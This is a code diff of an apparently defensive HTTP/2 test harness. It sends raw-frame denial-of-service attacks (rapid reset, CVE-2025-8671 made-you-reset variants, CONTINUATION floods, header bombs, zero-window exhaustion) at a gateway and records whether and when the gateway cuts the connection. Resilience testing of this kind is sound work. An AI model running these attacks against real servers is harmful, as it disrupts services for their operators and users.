@@ -1,9 +1,13 @@
 # SPDX-License-Identifier: Apache-2.0
-"""Attacks on one HTTP/2 connection, in front of the stand-in API, while another client goes on. Prints one JSON object."""
+"""Attacks over HTTP/2. Prints one JSON object.
+
+    http2_abuse.py CASE          on one connection, until that is cut
+    http2_abuse.py CASE SECONDS  for so long, on a new connection after each cut
+    http2_abuse.py harmless SECONDS: nothing but ordinary requests, as fast as they are answered, for comparison
+"""
 
 import json
 import sys
-import threading
 import time
 
 from http2_client import Client, block, frame
@@ -31,8 +35,8 @@ def rapid_reset(client):
         yield b"".join(h + frame(RST_STREAM, 0, s, (8).to_bytes(4, "big")) for h, s in zip(heads, streams))
 
 
-def made_you_reset(client):
-    """CVE-2025-8671: each request is made invalid, so that the server resets it."""
+def zero_increment(client):
+    """A WINDOW_UPDATE of nothing: made-you-reset where a server resets the stream for it; here it ends everything."""
     first = 1
     while True:
         heads, streams = requests(client, "/hang", 20, first)
@@ -40,14 +44,42 @@ def made_you_reset(client):
         yield b"".join(h + frame(WINDOW_UPDATE, 0, s, bytes(4)) for h, s in zip(heads, streams))
 
 
-def overflowing_window(client):
-    """CVE-2025-8671 by a window beyond its maximum."""
+def made_you_reset(client):
+    """CVE-2025-8671: each request's window is made to overflow, so that the server resets its stream."""
     first = 1
     while True:
         heads, streams = requests(client, "/hang", 20, first)
         first = streams[-1] + 2
         yield b"".join(
             h + frame(WINDOW_UPDATE, 0, s, (2**31 - 1).to_bytes(4, "big")) for h, s in zip(heads, streams))
+
+
+def long_body(client):
+    """CVE-2025-8671 by bodies that are longer than they said."""
+    head = block(client.fields("POST", "/hang", [("content-length", "1")]))
+    first = 1
+    while True:
+        streams = range(first, first + 40, 2)
+        first += 40
+        yield b"".join(frame(HEADERS, END_HEADERS, s, head) + frame(DATA, 0, s, b"12") for s in streams)
+
+
+def bad_field(client):
+    """CVE-2025-8671 by header blocks that break HTTP's rules."""
+    head = block(client.fields() + [("connection", "close")])
+    first = 1
+    while True:
+        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, head) for s in range(first, first + 40, 2))
+        first += 40
+
+
+def data_behind_end(client):
+    """DATA on a stream that its sender has ended: made-you-reset where a server resets the stream for it."""
+    first = 1
+    while True:
+        heads, streams = requests(client, "/hang", 20, first)
+        first = streams[-1] + 2
+        yield b"".join(h + frame(DATA, 0, s, b"x") for h, s in zip(heads, streams))
 
 
 def continuation(client):
@@ -133,110 +165,129 @@ def too_many_streams(client):
 
 def zero_window(client):
     """Many large responses are asked for, and none is taken."""
-    heads, _ = requests(client, "/bytes?n=1000000", 100)
-    yield frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + bytes(4)) + b"".join(heads)
+    heads, _ = requests(client, "/flood", 50)
+    small, _ = requests(client, "/warm", 50, 101)
+    yield frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + bytes(4)) + b"".join(heads + small)
     while True:
         yield b""
 
 
-class Bystander(threading.Thread):
-    """A client that does nothing wrong."""
-
-    def __init__(self):
-        super().__init__(daemon=True)
-        self.stopped = False
-        self.times = []
-        self.failures = 0
-
-    def run(self):
-        client = Client()
-        while not self.stopped:
-            start = time.monotonic()
-            answer = client.get("/version")
-            if answer.status != 200 or not answer.ended:
-                self.failures += 1
-                client.close()
-                client = Client()
-            self.times.append((time.monotonic() - start) * 1000)
-            time.sleep(0.005)
-
-    def p99(self):
-        return sorted(self.times)[int(len(self.times) * 0.99)] if self.times else -1
+def harmless(client):
+    first = 1
+    while True:
+        heads, streams = requests(client, "/warm", 50, first)
+        first = streams[-1] + 2
+        yield b"".join(heads)
+        while not client.socket_answers(streams[-1]):
+            pass
 
 
-def attack(make, reads):
-    bystander = Bystander()
-    bystander.start()
-    time.sleep(1)
-    calm = bystander.p99()
-    bystander.times = []
-    client = Client(receive_buffer=None if reads else 4096)
-    client.receive(time.monotonic() + 1)
-    sent = 0
-    start = time.monotonic()
-    client.socket.settimeout(2)
-    ended = None
-    for piece in make(client):
-        if time.monotonic() - start > LIMIT:
-            break
-        try:
-            if piece:
-                client.socket.settimeout(2)
-                client.raw(piece)
-                sent += len(piece)
-            else:
-                time.sleep(0.01)
-        except TimeoutError:
-            continue
-        except OSError:
-            ended = time.monotonic() - start
-            break
-        if reads:
-            read(client)
-            if client.closed or client.goaway is not None:
-                ended = time.monotonic() - start
+class Attack:
+    """One connection's attack, and how it ended."""
+
+    def __init__(self, make, reads):
+        self.client = Client(receive_buffer=None if reads else 4096)
+        self.client.raw(frame(WINDOW_UPDATE, 0, 0, (2**30).to_bytes(4, "big")))
+        self.client.socket_answers = self.answers
+        self.make = make
+        self.reads = reads
+        self.buffer = bytearray()
+        self.last_ended = 0
+        self.sent = 0
+
+    def run(self, limit):
+        """Returns after how many seconds the gateway cut it; None: it did not."""
+        client = self.client
+        start = time.monotonic()
+        for piece in self.make(client):
+            if time.monotonic() - start > limit:
                 break
-    if client.goaway is None and not client.closed:
-        deadline = time.monotonic() + 2
-        while time.monotonic() < deadline and not client.closed and client.goaway is None:
-            read(client, 0.2)
-    time.sleep(0.5)
-    bystander.stopped = True
-    bystander.join(10)
-    return {"seconds": ended, "goaway": client.goaway, "bytes": sent, "calm": calm, "p99": bystander.p99(),
-            "served": len(bystander.times), "failures": bystander.failures}
+            try:
+                if piece:
+                    client.socket.settimeout(2)
+                    client.raw(piece)
+                    self.sent += len(piece)
+                else:
+                    time.sleep(0.01)
+            except TimeoutError:
+                continue
+            except OSError:
+                client.closed = True
+                break
+            if self.reads:
+                self.read()
+            if client.closed or client.goaway is not None:
+                break
+        # What was said last may still lie in our kernel.
+        deadline = time.monotonic() + 1
+        while client.goaway is None and time.monotonic() < deadline and self.read(0.2):
+            pass
+        took = time.monotonic() - start
+        client.close()
+        return took if client.goaway is not None or client.closed else None
+
+    def answers(self, stream):
+        self.read(5)
+        return self.last_ended >= stream or self.client.closed or self.client.goaway is not None
+
+    def read(self, limit=0.0005):
+        """Looks for GOAWAY and END_STREAM in what comes; h2 itself would find much of the rest an error."""
+        client = self.client
+        client.socket.settimeout(limit)
+        try:
+            data = client.socket.recv(65536)
+        except TimeoutError:
+            return True
+        except OSError:
+            data = b""
+        if not data:
+            client.closed = True
+            return False
+        self.buffer.extend(data)
+        while len(self.buffer) >= 9:
+            length = int.from_bytes(self.buffer[:3], "big")
+            if len(self.buffer) < 9 + length:
+                break
+            kind, flags = self.buffer[3], self.buffer[4]
+            if kind == 0x7:
+                client.goaway = int.from_bytes(self.buffer[13:17], "big")
+            if kind in (DATA, HEADERS) and flags & END_STREAM:
+                self.last_ended = max(self.last_ended, int.from_bytes(self.buffer[5:9], "big"))
+            del self.buffer[:9 + length]
+        return True
 
 
-BUFFER = bytearray()
+CASES = {
+    "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "long-body": long_body, "bad-field": bad_field,
+    "zero-increment": zero_increment, "data-behind-end": data_behind_end,
+    "continuation": continuation, "empty-continuation": empty_continuation, "header-bomb": header_bomb,
+    "settings": settings, "ping": ping, "unread-ping": unread_ping, "priority": priority, "unknown": unknown,
+    "window-updates": window_updates, "empty-data": empty_data, "padded-data": padded_data,
+    "zero-window": zero_window, "too-many-streams": too_many_streams, "harmless": harmless,
+}
 
 
-def read(client, limit=0.0005):
-    """Looks for GOAWAY in what comes; h2 itself would find much of the rest an error."""
-    client.socket.settimeout(limit)
-    try:
-        data = client.socket.recv(65536)
-    except (TimeoutError, OSError) as error:
-        client.closed = not isinstance(error, TimeoutError)
-        return
-    if not data:
-        client.closed = True
-        return
-    BUFFER.extend(data)
-    while len(BUFFER) >= 9:
-        length = int.from_bytes(BUFFER[:3], "big")
-        if len(BUFFER) < 9 + length:
-            return
-        if BUFFER[3] == 0x7:
-            client.goaway = int.from_bytes(BUFFER[13:17], "big")
-        del BUFFER[:9 + length]
+def main():
+    name = sys.argv[1]
+    until = time.monotonic() + float(sys.argv[2]) if len(sys.argv) > 2 else None
+    result = {"connections": 0, "cut": 0, "codes": {}, "bytes": 0, "slowest": 0.0, "failed": 0}
+    while result["connections"] == 0 or until is not None and time.monotonic() < until:
+        result["connections"] += 1
+        try:
+            attack = Attack(CASES[name], reads=not name.startswith("unread"))
+            took = attack.run(min(LIMIT, until - time.monotonic()) if until else LIMIT)
+        except OSError:
+            # The handshake itself was not served.
+            result["failed"] += 1
+            continue
+        result["bytes"] += attack.sent
+        code = str(attack.client.goaway)
+        result["codes"][code] = result["codes"].get(code, 0) + 1
+        if took is not None:
+            result["cut"] += 1
+            result["slowest"] = max(result["slowest"], took)
+    print(json.dumps(result))
 
 
 if __name__ == "__main__":
-    cases = {
-        "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "overflowing-window": overflowing_window,
-        "continuation": continuation, "empty-continuation": empty_continuation, "header-bomb": header_bomb,
-        "settings": settings, "ping": ping, "priority": priority, "empty-data": empty_data,
-        "padded-data": padded_data, "unknown": unknown, "window-updates": window_updates,
-        "too-many-streams": too_many_streams, "zero-window": zero_window, "unread-ping": unread_ping,
-    }
-    print(json.dumps(attack(cases[sys.argv[1]], reads=not sys.argv[1].startswith("unread"))))
+    main()
